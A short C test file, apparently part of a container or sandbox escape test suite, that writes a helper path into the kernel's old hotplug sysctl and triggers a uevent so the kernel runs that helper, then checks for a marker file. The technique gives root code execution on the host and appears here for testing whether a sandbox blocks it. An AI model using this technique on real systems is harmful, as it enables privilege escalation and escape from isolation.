// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * G1, G3. The same by the sysctl of the old name, kernel.hotplug.
 * Source: root-paths, "uevent_helper, hotplug". Control: the program runs.
 */
#define _GNU_SOURCE
#include <unistd.h>

#include "attack.h"

void attack(void)
{
	const char *mark = "/tmp/lab-hotplug-ran", *helper = "/proc/sys/kernel/hotplug";
	bool done;

	drop_helper("/tmp/lab-hotplug", mark);
	write_text(helper, "/tmp/lab-hotplug");
	write_text("/sys/class/mem/null/uevent", "change");
	done = file_begins_soon(mark, FOREIGN_TEXT);
	write_text(helper, "\n");
	if (done)
		effect();
	no_effect(0);
}
